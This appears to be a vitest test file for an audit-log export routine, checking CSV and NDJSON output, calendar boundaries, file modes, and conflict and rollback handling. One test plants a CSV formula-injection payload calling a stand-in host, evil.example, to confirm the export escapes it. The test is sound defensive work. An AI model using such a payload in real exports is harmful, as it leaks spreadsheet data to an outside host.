import { readFileSync, statSync, existsSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { londonDateKey } from '../london-time'
import { aFolder } from '../vault/testing/a-key-ring'
import { exportLog } from './export-log'
import { anAuditLog, type AuditLog } from './testing/an-audit-log'

const today = londonDateKey(new Date())
const folder = aFolder()
let log: AuditLog
beforeAll(async () => {
  log = await anAuditLog()
  await log.write(2, { purpose: 'duty' })
})
afterAll(() => log.database.close())

const lastEntry = async () =>
  (
    await log.database.superuser.query(
      'select verb, permission, surface, purpose from audit.entries order by id desc limit 1',
    )
  ).rows

test('a day is written out, entry by entry, and that it was is written down and in it', async () => {
  const file = join(folder, 'log.ndjson')
  expect(await exportLog({ from: today, to: today, file, purpose: 'inspection' })).toBe(3)
  const lines = readFileSync(file, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>)
  expect(lines[0]).toMatchObject({ id: 1, actor: null, surface: 'divert_casework', verb: 'consult', purpose: 'duty' })
  expect(lines[0]!.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/)
  expect(lines[2]).toMatchObject({ verb: 'export', permission: 'audit:export', purpose: 'inspection' })
  expect((statSync(file).mode & 0o777).toString(8)).toBe('600')
  expect(await lastEntry()).toEqual([
    { verb: 'export', permission: 'audit:export', surface: 'divert_auditor', purpose: 'inspection' },
  ])
})

test('in a spreadsheet nothing that a surface wrote becomes a formula', async () => {
  await log.write(1, { permission: `=HYPERLINK("http://evil.example?"&A1)` })
  const file = join(folder, 'log.csv')
  await exportLog({ from: today, to: today, file })
  const lines = readFileSync(file, 'utf8').split('\r\n')
  expect(lines[0]).toBe('"id","at","actor","role","surface","verb","permission","purpose","objects","request","change"')
  const planted = lines.find((line) => line.includes('HYPERLINK'))
  expect(planted).toContain(`"'=HYPERLINK(""http://evil.example?""&A1)"`)
})

test('other days are not in it, by the London calendar', async () => {
  await log.database.superuser.query(`
    insert into audit.entries (at, surface, verb, permission, objects, request_id) values
      ('2026-06-01 00:30 Europe/London', 'divert_casework', 'consult', 'case:read', '{}', gen_random_uuid()),
      ('2026-06-02 00:30 Europe/London', 'divert_casework', 'change', 'case:read', '{}', gen_random_uuid())`)
  const file = join(folder, 'june.ndjson')
  expect(await exportLog({ from: '2026-06-01', to: '2026-06-01', file })).toBe(1)
  expect(readFileSync(file, 'utf8')).toContain('"at":"2026-05-31T23:30:00.000000Z"')
})

test('a file that is there is not written over, and nothing is exported', async () => {
  const file = join(folder, 'log.csv')
  const [before, last] = [readFileSync(file, 'utf8'), await lastEntry()]
  await expect(exportLog({ from: today, to: today, file })).rejects.toMatchObject({ code: 'CONFLICT' })
  expect([readFileSync(file, 'utf8'), await lastEntry()]).toEqual([before, last])
})

test('an export that cannot be written down leaves no file', async () => {
  await log.database.superuser.query(
    `alter table audit.entries add constraint no_exports check (verb <> 'export') not valid`,
  )
  const file = join(folder, 'secret.csv')
  await expect(exportLog({ from: today, to: today, file })).rejects.toMatchObject({ sqlState: '23514' })
  expect(existsSync(file)).toBe(false)
})
